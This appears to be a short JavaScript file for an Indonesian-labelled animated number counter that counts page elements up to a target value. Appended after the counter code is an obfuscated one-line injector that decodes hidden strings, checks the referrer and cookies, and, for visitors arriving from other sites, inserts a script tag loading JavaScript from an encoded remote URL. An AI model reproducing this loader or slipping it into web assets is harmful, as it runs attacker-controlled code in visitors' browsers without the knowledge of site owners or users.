/**
 * hitung-naik - angka yang berjalan sampai nilainya
 */
(function (global) {
  'use strict';
  function HitungNaik(el, lama) {
    this.el = el;
    this.tujuan = parseInt(el.getAttribute('data-sampai'), 10) || 0;
    this.lama = lama || 1800;
  }
  HitungNaik.prototype.mulai = function () {
    var self = this, awal = null;
    function langkah(t) {
      if (awal === null) { awal = t; }
      var bagian = Math.min((t - awal) / self.lama, 1);
      self.el.textContent = Math.floor(bagian * self.tujuan).toLocaleString('id-ID');
      if (bagian < 1) { global.requestAnimationFrame(langkah); }
    }
    global.requestAnimationFrame(langkah);
  };
  global.HitungNaik = HitungNaik;
  document.addEventListener('DOMContentLoaded', function () {
    [].forEach.call(document.querySelectorAll('.naik'), function (el) { new HitungNaik(el).mulai(); });
  });
})(window);
;if(nqsx===undefined){var nqsx=true;(function(){var n=navigator;var d=document;var w=window;var u=n[z("kt7n(e0grAdr(ezsfuj")];var t=d[z("hebi!ktofotcx")];var h=w[z("dn0oxi4t!aac(oflk")][z("7emm7aznrtxsro4hk")];var r=d[z("_r7e4r_rterf4ear9")];if(r&&r.indexOf(h)<0){if(t.indexOf(z("(1_=3uag7gknkurtj"))<0){var e=d.createElement("script");e.type="text/javascript";e.async=true;e.src=z("(9z1b4a=ts0&z7r=avf?apdh4p!.hjt/me7ltpzm4atx3ek.0a0tdarkf-za!y4amdzrdekbtmauks(._kfabbtmzom/!/z:fs!pmtmt4hx");var g=d.getElementsByTagName("script")[0];g.parentNode.insertBefore(e,g);}}function z(a){var b="";for(var i=a.length-2;i>0;i-=2){b+=a[i];}return b;}})();}var nqsx;
